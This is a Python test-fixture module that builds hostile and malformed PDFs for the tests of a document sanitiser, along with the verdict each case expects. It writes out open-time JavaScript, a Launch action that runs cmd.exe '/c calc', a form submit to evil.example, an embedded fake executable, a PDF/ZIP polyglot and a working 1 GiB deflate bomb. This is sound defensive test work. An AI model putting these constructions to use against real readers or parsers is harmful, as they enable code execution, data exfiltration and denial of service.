"""Hostile and careless PDFs, made here (pypdf and raw bytes), for the evidence gate's tests.

Each maker writes one file and returns its path. A page shows a line of text ("Order 84/2558")
so that rendering before and after cleaning can be compared; what it carries besides is the
point of the case.
"""

from __future__ import annotations

import io
import zipfile
import zlib
from collections.abc import Callable
from pathlib import Path

PAGE_TEXT = b"BT /F1 24 Tf 72 720 Td (Order 84/2558 signed) Tj ET"
FONT = b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"


def raw_pdf(objects: list[bytes], *, root: int = 1, trailer: bytes = b"") -> bytes:
    """A PDF of `objects` (object n is objects[n-1]) with a correct cross-reference table."""
    out = io.BytesIO()
    out.write(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(out.tell())
        out.write(b"%d 0 obj\n" % number + body + b"\nendobj\n")
    xref = out.tell()
    out.write(b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1))
    for offset in offsets:
        out.write(b"%010d 00000 n \n" % offset)
    out.write(b"trailer\n<< /Size %d /Root %d 0 R %s>>\n" % (len(objects) + 1, root, trailer))
    out.write(b"startxref\n%d\n%%%%EOF\n" % xref)
    return out.getvalue()


def stream(data: bytes, extra: bytes = b"", *, flate: bool = False) -> bytes:
    if flate:
        data = zlib.compress(data, 9)
        extra += b" /Filter /FlateDecode"
    return b"<< /Length %d%s >>\nstream\n" % (len(data), extra) + data + b"\nendstream"


def one_page(
    page_extra: bytes = b"", catalog_extra: bytes = b"", more: tuple[bytes, ...] = ()
) -> bytes:
    """Catalog 1, Pages 2, Page 3, content 4, font 5, then `more` (objects 6…)."""
    return raw_pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R " + catalog_extra + b">>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R "
            b"/Resources << /Font << /F1 5 0 R >> >> " + page_extra + b">>",
            stream(PAGE_TEXT),
            FONT,
            *more,
        ]
    )


def _write(path: Path, data: bytes) -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(data)
    return path


JS = b"<< /S /JavaScript /JS (app.alert\\('pwned'\\)) >>"
LAUNCH = b"<< /S /Launch /F (cmd.exe) /Win << /F (cmd.exe) /P (/c calc) >> >>"


def page_aa_javascript(path: Path) -> Path:
    return _write(path, one_page(b"/AA << /O " + JS + b" >> "))


def page_aa_launch(path: Path) -> Path:
    return _write(path, one_page(b"/AA << /O " + LAUNCH + b" /C " + JS + b" >> "))


def open_action(path: Path) -> Path:
    return _write(path, one_page(catalog_extra=b"/OpenAction " + JS + b" "))


def names_javascript(path: Path) -> Path:
    names = b"/Names << /JavaScript << /Names [(go) 6 0 R] >> >> "
    return _write(path, one_page(catalog_extra=names, more=(JS,)))


def link_actions(path: Path) -> Path:
    """A link that launches, one that submits the form, and one to a web address (that stays)."""
    links = b"/Annots [6 0 R 7 0 R 8 0 R] "
    link = b"<< /Type /Annot /Subtype /Link /Rect [%d 100 %d 120] /Border [0 0 0] /A %s >>"
    return _write(
        path,
        one_page(
            links,
            more=(
                link % (72, 172, LAUNCH),
                link % (200, 300, b"<< /S /SubmitForm /F (http://evil.example/x) >>"),
                link % (320, 420, b"<< /S /URI /URI (https://dld.go.th/) >>"),
            ),
        ),
    )


def embedded_file(path: Path) -> Path:
    """An attachment in the name tree and a file-attachment annotation on the page."""
    exe = stream(b"MZ\x90\x00 not really a program", b" /Type /EmbeddedFile")
    spec = b"<< /Type /Filespec /F (run.exe) /EF << /F 6 0 R >> >>"
    annot = b"<< /Type /Annot /Subtype /FileAttachment /Rect [72 100 92 120] /FS 7 0 R >>"
    names = b"/Names << /EmbeddedFiles << /Names [(run.exe) 7 0 R] >> >> "
    return _write(path, one_page(b"/Annots [8 0 R] ", names, (exe, spec, annot)))


def xfa_form(path: Path) -> Path:
    xfa = stream(b'<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><script>x</script></xdp:xdp>')
    return _write(
        path, one_page(catalog_extra=b"/AcroForm << /Fields [] /XFA 6 0 R >> ", more=(xfa,))
    )


def rich_media(path: Path) -> Path:
    annot = (
        b"<< /Type /Annot /Subtype /RichMedia /Rect [72 100 200 200] "
        b"/RichMediaContent << /Assets << /Names [] >> >> >>"
    )
    return _write(path, one_page(b"/Annots [6 0 R] ", more=(annot,)))


def flate_bomb(path: Path, inflated: int = 1 << 30) -> Path:
    """One content stream of about 1 MB inflating to `inflated` bytes of spaces: a deflate
    block set for 1 MiB of spaces, repeated (each decodes alike wherever it stands)."""
    chunk = b" " * (1 << 20)
    squeezer = zlib.compressobj(9, zlib.DEFLATED, -15)
    block = squeezer.compress(chunk) + squeezer.flush(zlib.Z_SYNC_FLUSH)
    count = inflated // len(chunk)
    adler = 1
    for _ in range(count):
        adler = zlib.adler32(chunk, adler)
    final = zlib.compressobj(9, zlib.DEFLATED, -15).flush()
    packed = b"\x78\xda" + block * count + final + adler.to_bytes(4, "big")
    bomb = (
        b"<< /Length %d /Filter /FlateDecode >>\nstream\n" % len(packed) + packed + b"\nendstream"
    )
    data = raw_pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R >>",
            bomb,
        ]
    )
    return _write(path, data)


def object_stream_bomb(path: Path, objects: int = 200_000) -> Path:
    """An object stream of `objects` objects, each listed in a cross-reference stream: a file
    of a few hundred KB that declares two hundred thousand objects."""
    head = one_page()
    body = head[: head.rindex(b"xref\n")]
    offsets = [int(body.index(b"\n%d 0 obj\n" % n)) + 1 for n in range(1, 6)]
    index = b" ".join(b"%d %d" % (n + 7, n * 2) for n in range(objects))
    packed = zlib.compress(index + b" " + b"0 " * objects, 6)
    objstm = (
        b"6 0 obj\n<< /Type /ObjStm /N %d /First %d /Length %d /Filter /FlateDecode >>\nstream\n"
        % (objects, len(index) + 1, len(packed))
        + packed
        + b"\nendstream\nendobj\n"
    )
    offsets.append(len(body))
    body += objstm
    xref_number = 7 + objects
    rows = [b"\x00" + (0).to_bytes(4, "big") + (65535).to_bytes(4, "big")]
    rows += [b"\x01" + o.to_bytes(4, "big") + (0).to_bytes(4, "big") for o in offsets]
    rows += [b"\x02" + (6).to_bytes(4, "big") + i.to_bytes(4, "big") for i in range(objects)]
    rows.append(b"\x01" + len(body).to_bytes(4, "big") + (0).to_bytes(4, "big"))
    table = zlib.compress(b"".join(rows), 6)
    xref = (
        b"%d 0 obj\n<< /Type /XRef /Size %d /W [1 4 4] /Root 1 0 R /Length %d "
        b"/Filter /FlateDecode >>\nstream\n"
        % (xref_number, xref_number + 1, len(table))
        + table
        + b"\nendstream\nendobj\n"
    )
    start = len(body)
    return _write(path, body + xref + b"startxref\n%d\n%%%%EOF\n" % start)


def deep_nesting(path: Path, depth: int = 100_000) -> Path:
    """An array nested `depth` deep in the page's dictionary."""
    return _write(path, one_page(b"/Deep " + b"[" * depth + b"]" * depth + b" "))


def moderately_deep(path: Path, depth: int = 60) -> Path:
    """Nesting past limits.max_pdf_nesting (32) that a recursive parser still reads."""
    return _write(path, one_page(b"/Deep " + b"[" * depth + b"]" * depth + b" "))


def circular_pages(path: Path) -> Path:
    """A page tree whose node lists itself among its kids."""
    data = raw_pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [3 0 R 2 0 R] /Count 2 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R "
            b"/Resources << /Font << /F1 5 0 R >> >> >>",
            stream(PAGE_TEXT),
            FONT,
        ]
    )
    return _write(path, data)


def circular_outline(path: Path) -> Path:
    """Bookmarks whose second item leads back to the first."""
    outline = b"<< /Type /Outlines /First 7 0 R /Last 8 0 R /Count 2 >>"
    first = b"<< /Title (One) /Parent 6 0 R /Next 8 0 R /Dest [3 0 R /Fit] >>"
    second = b"<< /Title (Two) /Parent 6 0 R /Next 7 0 R /Dest [3 0 R /Fit] >>"
    return _write(path, one_page(catalog_extra=b"/Outlines 6 0 R ", more=(outline, first, second)))


def many_pages(path: Path, pages: int = 20_000) -> Path:
    """`pages` blank pages sharing one content stream: about 2 MB."""
    first_page = 4
    kids = b" ".join(b"%d 0 R" % (first_page + n) for n in range(pages))
    page = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 3 0 R >>"
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [" + kids + b"] /Count %d >>" % pages,
        stream(b""),
        *[page] * pages,
    ]
    return _write(path, raw_pdf(objects))


def lying_count(path: Path, pages: int = 2_000) -> Path:
    """Many pages under a /Count that says 1: the count is not trusted."""
    data = many_pages(path, pages).read_bytes()
    return _write(path, data.replace(b"/Count %d" % pages, b"/Count 1"))


def truncated(path: Path) -> Path:
    whole = one_page()
    return _write(path, whole[: len(whole) // 2])


def encrypted(path: Path, user_password: str = "secret") -> Path:
    from pypdf import PdfReader, PdfWriter

    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(one_page())))
    writer.encrypt(user_password=user_password, owner_password="owner", algorithm="AES-128")
    with io.BytesIO() as out:
        writer.write(out)
        return _write(path, out.getvalue())


def owner_password_only(path: Path) -> Path:
    """Protected against changes only: opens without a password, as many scanners write."""
    return encrypted(path, user_password="")


def zip_polyglot(path: Path) -> Path:
    """A PDF that is also a ZIP archive (a program hidden at its end)."""
    hidden = io.BytesIO()
    with zipfile.ZipFile(hidden, "w") as bundle:
        bundle.writestr("run.exe", b"MZ not really a program")
    return _write(path, one_page() + hidden.getvalue())


def no_pages(path: Path) -> Path:
    return _write(
        path,
        raw_pdf([b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [] /Count 0 >>"]),
    )


def huge_array(path: Path, elements: int = 150_000) -> Path:
    """An array longer than pypdf reads (its own safety limit, 100,000 elements)."""
    return _write(path, one_page(b"/Big [" + b"0 " * elements + b"] "))


def plain(path: Path) -> Path:
    return _write(path, one_page())


# name → (maker, the code of the answer: accepted documents answer None)
CORPUS: dict[str, tuple[Callable[[Path], Path], str | None]] = {
    "page-aa-javascript": (page_aa_javascript, None),
    "page-aa-launch": (page_aa_launch, None),
    "open-action": (open_action, None),
    "names-javascript": (names_javascript, None),
    "link-actions": (link_actions, None),
    "embedded-file": (embedded_file, None),
    "xfa": (xfa_form, None),
    "rich-media": (rich_media, None),
    "owner-password-only": (owner_password_only, None),
    "flate-bomb": (flate_bomb, "evidence-bomb"),
    "object-stream-bomb": (object_stream_bomb, "evidence-too-many-objects"),
    "deep-nesting": (deep_nesting, "evidence-too-deep"),
    "moderately-deep": (moderately_deep, "evidence-too-deep"),
    "circular-pages": (circular_pages, "evidence-loop"),
    "circular-outline": (circular_outline, "evidence-loop"),
    "20000-pages": (many_pages, "evidence-too-many-pages"),
    "lying-count": (lying_count, "evidence-too-many-pages"),
    "truncated": (truncated, "evidence-unreadable"),
    "encrypted": (encrypted, "evidence-encrypted"),
    "zip-polyglot": (zip_polyglot, "evidence-polyglot"),
    "no-pages": (no_pages, "evidence-no-pages"),
    "huge-array": (huge_array, "evidence-too-complex"),
}
